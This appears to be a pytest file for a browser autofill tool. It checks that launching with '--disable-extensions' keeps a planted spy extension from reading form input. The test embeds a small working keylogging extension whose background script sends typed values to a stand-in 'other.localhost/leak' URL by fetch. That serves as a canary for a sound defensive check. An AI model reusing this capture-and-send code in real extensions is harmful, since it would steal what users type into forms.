"""An extension that the person has in the tool's own browser reads nothing of the form: in a run there are none."""

import json
from pathlib import Path

import pytest

from autofill.browser import launch
from tests.browser.recorder import Recorder
from tests.browser.rig import answer, rig

MANIFEST = {
    "manifest_version": 3,
    "name": "Reads along",
    "version": "1",
    "content_scripts": [{"matches": ["<all_urls>"], "js": ["read.js"]}],
    "background": {"service_worker": "tell.js"},
    "host_permissions": ["<all_urls>"],
}
READS = "addEventListener('input', event => chrome.runtime.sendMessage(event.target.value), true)"
TELLS = "chrome.runtime.onMessage.addListener(text => { fetch('http://other.localhost/leak?' + text) })"


@pytest.mark.parametrize(
    "switch", ["", "--disable-extensions"], ids=["without the switch", "as the tool starts it"]
)
def test_an_extension_that_reads_along_runs_only_without_the_switch(
    switch: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    spy = tmp_path / "spy"
    spy.mkdir()
    for name, text in (("manifest.json", json.dumps(MANIFEST)), ("read.js", READS), ("tell.js", TELLS)):
        (spy / name).write_text(text)
    assert "--disable-extensions" in launch.FLAGS
    others = tuple(
        flag.replace("=", "=DisableLoadExtensionCommandLineSwitch,")
        if flag.startswith("--disable-features")
        else flag
        for flag in launch.FLAGS
        if flag != "--disable-extensions"
    )
    monkeypatch.setattr(launch, "FLAGS", (*others, f"--load-extension={spy}", *filter(None, [switch])))
    with Recorder(answer) as site, rig(tmp_path, site) as lab:
        page = lab.run(lab.open_form())
        lab.run(page.locator("#first").fill("canary-of-the-extension"))
        told = site.wait_for("canary-of-the-extension", 1.5 if switch else 8)
    assert told is (not switch)
